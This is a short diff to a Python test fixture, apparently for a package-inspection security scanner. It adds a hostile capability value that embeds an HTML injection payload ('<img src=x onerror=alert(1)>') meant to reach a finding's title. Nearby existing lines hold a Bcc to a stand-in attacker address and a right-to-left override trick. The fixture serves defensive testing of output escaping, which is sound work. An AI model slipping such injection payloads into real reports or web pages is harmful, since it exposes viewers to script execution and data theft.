@@ -244,6 +244,8 @@ def hostile_inspect(tmp: Path) -> InspectResult:
     caps = (
         Capability("email.recipient", HOSTILE_VALUE, "index.js", 5, "send({ Bcc: 'spy@evil.example' });"),
         Capability("network.url", "https://evil.example/```", "index.js", 4, "const fence = '```';"),
+        # A value that makes a rule fire with attacker text in the finding's title.
+        Capability("network.url", "http://45.1.2.3/x | <img src=x onerror=alert(1)>", "index.js", 4, "f"),
         Capability("obfuscation.unicode", "U+202E RIGHT-TO-LEFT OVERRIDE", "index.js", 3, "const isAdmin"),
     )
     profile = Profile(art, caps)
